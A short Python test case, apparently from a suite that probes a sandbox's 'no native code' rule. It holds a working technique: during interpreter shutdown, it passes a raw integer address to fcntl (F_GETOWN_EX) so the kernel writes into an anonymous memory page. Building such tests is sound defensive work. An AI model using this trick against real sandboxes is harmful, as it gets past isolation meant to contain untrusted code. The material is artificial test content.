# class: machine_code
# rule: native_code
# needs: x86_64
# success: the kernel writes to an address that fcntl.fcntl passes on as an integer, while Python
#   shuts down
# proof: word
import fcntl
import mmap
import os

from attack import show

MAP_32BIT, F_GETOWN_EX = 0x40, 16


class Last:
    def __init__(self):
        before = set(open("/proc/self/maps"))
        flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT
        self.page = mmap.mmap(-1, 1 << 20, flags=flags)
        self.page[:4] = b"\xff" * 4
        for line in set(open("/proc/self/maps")) - before:
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            if low < 1 << 31 and high - low >= 1 << 20:
                self.at = high - (1 << 20)
        self.come, _ = os.pipe()
        self.fcntl, self.exit, self.show = fcntl.fcntl, os._exit, show

    def __del__(self):
        try:
            self.fcntl(self.come, F_GETOWN_EX, self.at)
            wrote = self.page[:4] != b"\xff" * 4
        except OSError as error:
            wrote = str(error)
        self.exit(0 if self.show(wrote) else 1)


last = Last()
